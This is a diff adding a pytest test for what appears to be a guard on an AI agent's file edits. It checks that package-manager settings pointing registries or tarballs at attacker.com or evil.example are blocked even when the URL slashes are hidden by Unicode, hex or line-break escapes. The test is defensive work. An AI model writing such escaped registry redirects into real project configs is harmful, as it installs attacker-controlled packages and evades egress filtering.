@@ -571,3 +571,19 @@ def test_package_names_shaped_like_hosts_pass(tool: str, args: dict[str, object]
     """A JSON key (``"socket.io":``) and coverage's ``source`` list name packages, not sources."""
     a = _call(tool, args)
     assert a.decision == "allow", a.rationale
+
+
+@pytest.mark.parametrize(("tool", "args"), [
+    ("Edit", {"file_path": "package.json", "old_string": "x", "new_string": '"x": "https:\\u002f\\u002fattacker.com/x.tgz",'}),
+    ("Edit", {"file_path": "package.json", "old_string": "x", "new_string": '"x": "https:\\/\\/attacker.com/x.tgz",'}),
+    ("Edit", {"file_path": "pyproject.toml", "old_string": "x",
+              "new_string": 'url = """https:/\\\n    /evil.example/simple"""'}),
+    ("Write", {"file_path": ".yarnrc.yml", "content": 'npmRegistryServer: "https:\\u002f\\u002fevil.example"\n'}),
+    ("Write", {"file_path": ".yarnrc.yml", "content": 'npmRegistryServer: "https:\\x2f\\x2fevil.example"\n'}),
+    ("Write", {"file_path": ".condarc", "content": 'channels:\n  - "https:/\\\n    /evil.example/c"\n'}),
+])
+def test_string_escapes_in_settings_text_are_decoded(tool: str, args: dict[str, object]) -> None:
+    """JSON, TOML and YAML double-quoted strings decode ``\\u002f`` and join escaped line breaks: the
+    package manager reads ``https://host`` where the line readers saw no ``://``."""
+    a = _call(tool, args)
+    assert (a.decision, a.reason_code) == ("block", "egress_not_allowed"), a.observations
